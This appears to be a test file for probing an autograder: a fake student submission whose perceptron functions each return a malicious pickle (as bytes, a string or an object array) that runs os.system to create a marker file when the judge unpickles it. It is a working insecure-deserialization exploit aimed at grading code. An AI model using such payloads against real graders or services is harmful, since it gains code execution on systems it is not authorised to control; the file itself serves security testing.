"""Tries: pickles that run a command when loaded, as bytes, as strings, as an object array.
Gain: code in the judge.
Known from: otter-grader un-pickled what student code wrote; msgpack-numpy un-pickles object arrays.
"""
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch {{COURSE}}/owned-by-a-pickle",)


def perceptron_predict(X, w, b):
    return pickle.dumps(Payload())


def perceptron_step(*args, **kwargs):
    return np.array([Payload()], dtype=object)


def perceptron_epoch(*args, **kwargs):
    return pickle.dumps(Payload()).decode("latin-1"), Payload(), 1
